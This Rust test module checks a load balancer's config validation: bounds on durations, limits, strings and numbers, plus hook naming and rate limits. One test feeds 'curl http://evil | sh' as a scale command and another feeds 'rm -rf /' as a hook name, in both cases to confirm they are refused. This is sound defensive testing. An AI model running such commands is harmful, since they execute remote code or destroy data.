        let health = |field: &str, v: &str| {
            let other = if field == "interval" { "timeout = \"1ms\"" } else { "interval = \"1h\"" };
            format!("[[pool]]\nname = \"p\"\n[pool.health]\n{other}\n{field} = \"{v}\"\n")
        };
        let outlier = |field: &str, v: &str| {
            let other =
                if field == "max_ejection" { "base_ejection = \"1ms\"" } else { "max_ejection = \"1day\"" };
            format!("[[pool]]\nname = \"p\"\n[pool.outlier]\n{other}\n{field} = \"{v}\"\n")
        };
        let scale = |_: &str, v: &str| {
            format!(
                "[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"127.0.0.1:1\"\n[[pool.backend]]\n\
                 addr = \"127.0.0.1:2\"\nstandby = true\n[pool.scale]\nmin_active = 1\nmax_active = 2\n\
                 high_watermark = 2\nlow_watermark = 1\nwindow = \"{v}\"\n"
            )
        };
        let listener = |field: &str, v: &str| {
            format!(
                "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"http\"\nport = 8080\npool = \"p\"\n\
                 [listener.timeouts]\n{field} = \"{v}\"\n"
            )
        };
        type Make = fn(&str, &str) -> String;
        let cases: [(Make, &str, &str, &str, &str); 9] = [
            (health, "pool \"p\" health", "interval", "100ms", "1h"),
            (health, "pool \"p\" health", "timeout", "1ms", "1h"),
            (outlier, "pool \"p\" outlier", "base_ejection", "1ms", "1day"),
            (outlier, "pool \"p\" outlier", "max_ejection", "1ms", "1day"),
            (scale, "pool \"p\" scale", "window", "1s", "1h"),
            (listener, "listener \"l\" timeouts", "connect", "1ms", "5m"),
            (listener, "listener \"l\" timeouts", "request_header", "1ms", "1h"),
            (listener, "listener \"l\" timeouts", "idle", "1ms", "1day"),
            (listener, "listener \"l\" timeouts", "upstream_response", "1ms", "1day"),
        ];
        for (make, place, field, min, max) in cases {
            assert!(parse(&make(field, max), Format::Toml).is_ok(), "{field} = {max} is within");
            for bad in ["0s", "500years", "18446744073709551615s"] {
                if bad == "0s" && field == "base_ejection" {
                    continue;
                }
                let err = one_error(&make(field, bad));
                if humantime::parse_duration(bad).is_ok() {
                    assert_eq!(err, format!("{place}: {field} {bad} out of range {min}..={max}"));
                } else {
                    assert!(err.starts_with(&format!("{place}: invalid {field} \"{bad}\"")), "{err}");
                }
            }
        }
        assert_eq!(
            one_error(&outlier("base_ejection", "0s")),
            "pool \"p\" outlier: base_ejection 0s out of range 1ms..=1day"
        );
        // The proxies clamp what an older release may have committed.
        let huge = Timeouts {
            connect: Duration::MAX,
            request_header: Duration::MAX,
            idle: Duration::MAX,
            upstream_response: Duration::MAX,
        };
        assert_eq!(
            huge.clamped(),
            Timeouts {
                connect: MAX_CONNECT_TIMEOUT,
                request_header: MAX_REQUEST_HEADER_TIMEOUT,
                idle: MAX_IDLE_TIMEOUT,
                upstream_response: MAX_UPSTREAM_RESPONSE_TIMEOUT,
            }
        );
        assert_eq!(Timeouts::default().clamped(), Timeouts::default());
        // Every maximum is within the bound the proxies clamp to.
        for max in [
            MAX_HEALTH_INTERVAL,
            MAX_EJECTION,
            MAX_SCALE_WINDOW,
            MAX_CONNECT_TIMEOUT,
            MAX_REQUEST_HEADER_TIMEOUT,
            MAX_IDLE_TIMEOUT,
            MAX_UPSTREAM_RESPONSE_TIMEOUT,
        ] {
            assert!(max <= MAX_ANY_DURATION);
        }
    }

    #[test]
    fn http_limits_have_defaults_parse_and_are_bounded() {
        let with = |limits: &str, protocol: &str| {
            format!(
                "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"{protocol}\"\nport = 8080\n\
                 pool = \"p\"\n[listener.limits]\n{limits}\n"
            )
        };
        // Absent: the defaults, which are within their own bounds.
        let c = parse(DEMO, Format::Toml).unwrap();
        let d = HttpLimits::default();
        assert_eq!(c.listener[0].limits, d);
        assert_eq!(
            (d.max_request_head, d.max_headers, d.max_request_line, d.max_body),
            (32 * 1024, 100, 8 * 1024, None)
        );
        assert!(MAX_REQUEST_HEAD_RANGE.contains(&d.max_request_head));
        assert!(MAX_HEADERS_RANGE.contains(&d.max_headers));
        assert!(MAX_REQUEST_LINE_RANGE.contains(&d.max_request_line));
        assert_eq!(d.clamped(), d);

        // Set: parsed, and round-trip through TOML, JSON and postcard.
        let text = with(
            "max_request_head = 16384\nmax_headers = 50\nmax_request_line = 4096\nmax_body = 1048576",
            "http",
        );
        let c = parse(&text, Format::Toml).unwrap();
        let l = c.listener[0].limits;
        assert_eq!(
            l,
            HttpLimits {
                max_request_head: 16384,
                max_headers: 50,
                max_request_line: 4096,
                max_body: Some(1 << 20)
            }
        );
        assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
        assert_eq!(parse(&c.to_json(), Format::Json).unwrap(), c);
        assert_eq!(postcard::from_bytes::<ClusterConfig>(&postcard::to_allocvec(&c).unwrap()).unwrap(), c);
        // Only the fields given change.
        let c = parse(&with("max_headers = 10", "http"), Format::Toml).unwrap();
        assert_eq!(c.listener[0].limits, HttpLimits { max_headers: 10, ..HttpLimits::default() });

        // Each bound, just inside and just outside.
        let place = "listener \"l\" limits";
        let cases: [(&str, i64, i64); 4] = [
            ("max_request_head", 1024, 1 << 20),
            ("max_headers", 1, 1000),
            ("max_request_line", 64, 64 * 1024),
            ("max_body", 1, 1 << 40),
        ];
        for (field, lo, hi) in cases {
            // A request line up to its own maximum needs a head at least as big.
            let head = match field {
                "max_request_line" => "max_request_head = 1048576\n",
                "max_request_head" => "max_request_line = 64\n",
                _ => "",
            };
            for ok in [lo, hi] {
                let text = with(&format!("{head}{field} = {ok}"), "http");
                assert!(parse(&text, Format::Toml).is_ok(), "{field} = {ok} is within");
            }
            for bad in [lo - 1, hi + 1, -1, i64::MAX] {
                let text = with(&format!("{head}{field} = {bad}"), "http");
                assert_eq!(one_error(&text), format!("{place}: {field} {bad} out of range {lo}..={hi}"));
            }
        }
        assert_eq!(
            one_error(&with("max_request_head = 2048\nmax_request_line = 4096", "http")),
            format!("{place}: max_request_line 4096 is above max_request_head 2048")
        );
        assert_eq!(
            one_error(&with("max_headers = 10", "tcp")),
            "listener \"l\": limits are only for http listeners"
        );
        assert_eq!(
            one_error(&with("max_headers = 0", "tcp")),
            "listener \"l\": limits are only for http listeners"
        );
        assert!(one_error(&with("max_header = 10", "http")).contains("unknown field `max_header`"));
        // The proxy clamps what validation would refuse.
        let wild = HttpLimits {
            max_request_head: 0,
            max_headers: u32::MAX,
            max_request_line: u32::MAX,
            max_body: Some(0),
        };
        assert_eq!(
            wild.clamped(),
            HttpLimits {
                max_request_head: *MAX_REQUEST_HEAD_RANGE.start(),
                max_headers: *MAX_HEADERS_RANGE.end(),
                max_request_line: *MAX_REQUEST_HEAD_RANGE.start(),
                max_body: Some(1),
            }
        );
    }

    #[test]
    fn strings_are_bounded() {
        let long = |n: usize| "a".repeat(n);
        let err = one_error(&format!("[[pool]]\nname = \"{}\"\n", long(MAX_NAME_LEN + 1)));
        assert!(err.contains("use 1 to 64 of A-Z"), "{err}");
        assert!(err.len() < 300, "the name is not echoed in full: {err}");
        assert!(parse(&format!("[[pool]]\nname = \"{}\"\n", long(MAX_NAME_LEN)), Format::Toml).is_ok());

        let cases = [
            (
                format!("[[pool]]\nname = \"p\"\n[pool.health]\npath = \"/{}\"\n", long(MAX_PATH_LEN)),
                format!("pool \"p\" health: path is 1025 bytes long, above the limit of {MAX_PATH_LEN}"),
            ),
            (
                format!("[[pool]]\nname = \"p\"\nsticky_cookie = \"{}\"\n", long(MAX_HEADER_NAME_LEN + 1)),
                format!("pool \"p\": sticky_cookie is 129 bytes long, above the limit of {MAX_HEADER_NAME_LEN}"),
            ),
            (
                format!("[[pool]]\nname = \"p\"\npolicy = \"maglev\"\nhash_key = \"header:{}\"\n", long(MAX_HEADER_NAME_LEN + 1)),
                format!("pool \"p\": hash_key is 136 bytes long; a header or cookie name is at most {MAX_HEADER_NAME_LEN}"),
            ),
            (
                format!("[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"{}\"\n", long(MAX_ADDR_LEN + 1)),
                format!("pool \"p\" backend 1: addr is 65 bytes long, above the limit of {MAX_ADDR_LEN}"),
            ),
            (
                format!(
                    "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"http\"\nport = 80\npool = \"p\"\n\
                     [[listener.route]]\nhost = \"{}\"\npath_prefix = \"/{}\"\npool = \"p\"\n",
                    long(MAX_HOST_LEN + 1),
                    long(MAX_PATH_LEN)
                ),
                String::new(),
            ),
        ];
        for (text, want) in &cases[..4] {
            assert_eq!(&one_error(text), want);
        }
        let errs = errors(&cases[4].0);
        assert_eq!(
            errs,
            vec![
                format!("listener \"l\" route 1: path_prefix is 1025 bytes long, above the limit of {MAX_PATH_LEN}"),
                format!("listener \"l\" route 1: host is 254 bytes long, above the limit of {MAX_HOST_LEN}"),
            ]
        );
    }

    #[test]
    fn numbers_are_bounded() {
        let scale = |min: i64, max: i64, high: i64, low: i64| {
            format!(
                "[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"127.0.0.1:1\"\n[[pool.backend]]\n\
                 addr = \"127.0.0.1:2\"\nstandby = true\n[pool.scale]\nmin_active = {min}\nmax_active = {max}\n\
                 high_watermark = {high}\nlow_watermark = {low}\n"
            )
        };
        assert!(parse(&scale(1, 2, MAX_WATERMARK as i64, 0), Format::Toml).is_ok());
        let errs = errors(&scale(-1, 1001, 1_000_001, 0));
        for want in [
            "pool \"p\" scale: min_active -1 out of range 0..=1000",
            "pool \"p\" scale: max_active 1001 out of range 0..=1000",
            "pool \"p\" scale: high_watermark 1000001 out of range 0..=1000000",
        ] {
            assert!(errs.iter().any(|e| e == want), "missing {want:?} in {errs:#?}");
        }
        let health = "[[pool]]\nname = \"p\"\n[pool.health]\nrise = 101\nfall = 0\nquorum = 101\nexpect_status = [99, 600]\n";
        assert_eq!(
            errors(health),
            vec![
                "pool \"p\" health: rise 101 out of range 1..=100",
                "pool \"p\" health: fall 0 out of range 1..=100",
                "pool \"p\" health: expect_status [99, 600] must be a range within 100..=599",
                "pool \"p\" health: quorum 101 out of range 1..=100",
            ]
        );
        let outlier = "[[pool]]\nname = \"p\"\n[pool.outlier]\nconsecutive_5xx = 1001\nconsecutive_connect_failures = -1\n";
        assert_eq!(
            errors(outlier),
            vec![
                "pool \"p\" outlier: consecutive_5xx 1001 out of range 0..=1000",
                "pool \"p\" outlier: consecutive_connect_failures -1 out of range 0..=1000",
            ]
        );
        let listener = "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"tcp\"\nport = 65536\npool = \"p\"\nproxy_protocol = 3\n";
        assert_eq!(
            errors(listener),
            vec![
                "listener \"l\": port 65536 out of range 1..=65535",
                "listener \"l\": proxy_protocol 3 is not 1 or 2"
            ]
        );
    }

    #[test]
    fn a_rejection_lists_at_most_a_hundred_problems() {
        let mut text = "[[pool]]\nname = \"p\"\ntable_size = 1000003\n".to_string();
        for i in 0..150 {
            text += &format!("[[pool.backend]]\naddr = \"127.0.0.1:{}\"\nweight = 0\n", i + 1);
        }
        let e = parse(&text, Format::Toml).unwrap_err();
        assert_eq!(e.0.len(), 150);
        let shown = e.to_string();
        assert!(shown.starts_with("config rejected: 150 problems"), "{shown}");
        assert_eq!(shown.lines().count(), 1 + MAX_LISTED_PROBLEMS + 1);
        assert!(shown.ends_with("… and 50 more"), "{shown}");
    }

    const SCALED: &str = r#"
[[pool]]
name = "web"
  [[pool.backend]]
  addr = "127.0.0.1:9001"
  [[pool.backend]]
  addr = "127.0.0.1:9002"
  standby = true
  [pool.scale]
  min_active = 1
  max_active = 2
  high_watermark = 20
  low_watermark = 5
"#;

    #[test]
    fn a_raw_command_is_refused_with_what_to_do_instead() {
        let errs =
            errors(&format!("{SCALED}  scale_out_cmd = \"curl http://evil | sh\"\n  scale_in_cmd = \"\"\n"));
        assert_eq!(errs.len(), 2, "{errs:#?}");
        assert!(
            errs[0].starts_with("pool \"web\" scale: scale_out_cmd is no longer accepted: the replicated config cannot carry commands."),
            "{}",
            errs[0]
        );
        assert!(
            errs[0].contains("[hooks.NAME]") && errs[0].ends_with("with scale_out_hook = \"NAME\""),
            "{}",
            errs[0]
        );
        assert!(
            errs[1].contains("scale_in_cmd is no longer accepted")
                && errs[1].ends_with("scale_in_hook = \"NAME\"")
        );
        // The command text is not echoed back.
        assert!(!errs[0].contains("evil"), "{}", errs[0]);
        // The same in JSON, whatever the value's type.
        let json = r#"{"pool": [{"name": "web", "backend": [{"addr": "127.0.0.1:9001"}, {"addr": "127.0.0.1:9002", "standby": true}],
            "scale": {"min_active": 1, "max_active": 2, "high_watermark": 20, "low_watermark": 5, "scale_out_cmd": ["sh", "-c", "x"]}}]}"#;
        let errs = parse(json, Format::Json).unwrap_err().messages();
        assert_eq!(errs.len(), 1, "{errs:#?}");
        assert!(errs[0].contains("scale_out_cmd is no longer accepted"), "{errs:?}");
    }

    #[test]
    fn hooks_are_named_and_checked_against_the_receiving_node() {
        let errs = errors(&format!("{SCALED}  scale_out_hook = \"rm -rf /\"\n"));
        assert_eq!(
            errs,
            vec!["pool \"web\" scale: invalid scale_out_hook \"rm -rf /\": a hook name is 1 to 64 of A-Z a-z 0-9 - _ ."]
        );
        let c = parse(
            &format!("{SCALED}  scale_out_hook = \"add-web\"\n  scale_in_hook = \"del-web\"\n"),
            Format::Toml,
        )
        .unwrap();
        let known: BTreeSet<String> = ["add-web".to_string(), "del-web".to_string()].into();
        assert_eq!(check_hooks(&c, 2, &known), Ok(()));
        let some: BTreeSet<String> = ["add-web".to_string()].into();
        assert_eq!(
            check_hooks(&c, 2, &some).unwrap_err().messages(),
            vec![
                "pool \"web\" scale: scale_in_hook \"del-web\" is not defined on node 2 (it defines add-web); add \
                 [hooks.del-web] to the local config of every node (lbnode --config) and restart it"
            ]
        );
        let errs = check_hooks(&c, 3, &BTreeSet::new()).unwrap_err().messages();
        assert_eq!(errs.len(), 2);
        assert!(errs[0].contains("\"add-web\" is not defined on node 3 (it defines no hooks)"), "{errs:?}");
        // A config without hooks needs none.
        assert_eq!(check_hooks(&parse(SCALED, Format::Toml).unwrap(), 1, &BTreeSet::new()), Ok(()));
    }

    /// Found by fuzzing: `[fe80::1%3]:80` parsed, but its zone was dropped by postcard on its way
    /// through the log, so every node applied another address than the one validated (and two
    /// backends differing only in their zone became duplicates).
    #[test]
    fn ipv6_zones_are_refused_because_the_log_cannot_keep_them() {
        let with = |addr: &str| {
            parse(&format!("[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"{addr}\"\n"), Format::Toml)
        };
        assert_eq!(
            with("[fe80::1%3]:80").unwrap_err().messages(),
            ["pool \"p\" backend 1: invalid address \"[fe80::1%3]:80\": IPv6 zones (%scope) are not supported"]
        );
        let c = with("[fe80::1]:80").unwrap();
        let bytes = postcard::to_allocvec(&c).unwrap();
        assert_eq!(postcard::from_bytes::<ClusterConfig>(&bytes).unwrap(), c);
    }

    #[test]
    fn primes() {
        assert!(is_prime(65537));
        assert!(is_prime(16_777_213));
        assert!(!is_prime(65535));
        assert!(!is_prime(1));
        assert!(is_prime(2));
    }

    const LIMITED: &str = r#"
[[pool]]
name = "web"
max_connections_per_backend = 100
  [[pool.backend]]
  addr = "127.0.0.1:9001"

[[listener]]
name = "web"
protocol = "http"
port = 8080
pool = "web"
  [listener.admission]
  max_connections = 10000
  max_connections_per_source = 100
  [listener.admission.rate_limit]
  rate = 100
  burst = 200
  per = "source_ip"
  scope = "fleet"
  [[listener.route]]
  path_prefix = "/api"
  pool = "web"
    [listener.route.rate_limit]
    rate = 10
    per = "listener"

[[listener]]
name = "tcp"
protocol = "tcp"
port = 8081
pool = "web"
"#;

    #[test]
    fn caps_and_rate_limits_parse_with_their_defaults_and_round_trip() {
        let c = parse(LIMITED, Format::Toml).unwrap();
        assert_eq!(c.pool[0].max_connections_per_backend, Some(100));
        let l = c.listener[0].admission.unwrap();
        assert_eq!(l.max_connections, Some(10_000));
        assert_eq!(l.max_connections_per_source, Some(100));
        assert_eq!(
            l.rate_limit,
            Some(RateLimit { rate: 100, burst: 200, per: RateKey::SourceIp, scope: RateScope::Fleet })
        );
        // burst defaults to one second of rate, scope to the node.
        assert_eq!(
            c.listener[0].route[0].rate_limit,
            Some(RateLimit { rate: 10, burst: 10, per: RateKey::Listener, scope: RateScope::Node })
        );
        // Nothing is limited unless asked.
        assert_eq!(c.listener[1].admission, None);
        assert_eq!(parse(DEMO, Format::Toml).unwrap().pool[0].max_connections_per_backend, None);

        assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
        assert_eq!(parse(&c.to_json(), Format::Json).unwrap(), c);
        let bytes = postcard::to_allocvec(&c).unwrap();
        assert_eq!(postcard::from_bytes::<ClusterConfig>(&bytes).unwrap(), c);
    }

    #[test]
    fn caps_and_rate_limits_are_bounded_and_named() {
        let listener = |protocol: &str, limits: &str| {
            format!(
                "[[pool]]\nname = \"p\"\nmax_connections_per_backend = 0\n[[listener]]\nname = \"l\"\n\
                 protocol = \"{protocol}\"\nport = 9000\npool = \"p\"\n[listener.admission]\n{limits}"
            )
        };
        assert_eq!(
            errors(&listener(
                "http",
                "max_connections = 1000001\nmax_connections_per_source = -1\n[listener.admission.rate_limit]\n\
                 rate = 0\nburst = 1000001\nper = \"user\"\nscope = \"planet\"\n"
            )),
            vec![
                "pool \"p\": max_connections_per_backend 0 out of range 1..=1000000",
                "listener \"l\" admission: max_connections 1000001 out of range 1..=1000000",
                "listener \"l\" admission: max_connections_per_source -1 out of range 1..=1000000",
                "listener \"l\" admission rate_limit: rate 0 out of range 1..=1000000",
                "listener \"l\" admission rate_limit: burst 1000001 out of range 1..=1000000",
                "listener \"l\" admission rate_limit: unknown per \"user\" (expected source_ip or listener)",
                "listener \"l\" admission rate_limit: unknown scope \"planet\" (expected node or fleet)",
            ]
        );
        let errs =
            errors(&listener("udp", "max_connections = 10\n[listener.admission.rate_limit]\nburst = 5\n"));
        assert!(
            errs.contains(
                &"listener \"l\" admission: rate_limit is only for http and tcp listeners".to_string()
            ),
            "{errs:?}"
        );
        let errs = errors(&listener("tcp", "[listener.admission.rate_limit]\nburst = 5\n"));
        assert!(
            errs.contains(
                &"listener \"l\" admission rate_limit: missing rate (tokens per second)".to_string()
            ),
            "{errs:?}"
        );
        let errs = errors(&listener("tcp", "max_conns = 5\n"));
        assert!(errs.iter().any(|e| e.contains("unknown field `max_conns`")), "{errs:?}");
        // At the bounds: accepted.
        let top = format!(
            "max_connections = {MAX_CONNECTIONS_LIMIT}\nmax_connections_per_source = 1\n\
             [listener.admission.rate_limit]\nrate = {MAX_RATE}\nburst = {MAX_BURST}\n"
        );
        let ok = listener("tcp", &top)
            .replace("max_connections_per_backend = 0", "max_connections_per_backend = 1000000");
        assert!(parse(&ok, Format::Toml).is_ok());
    }
}
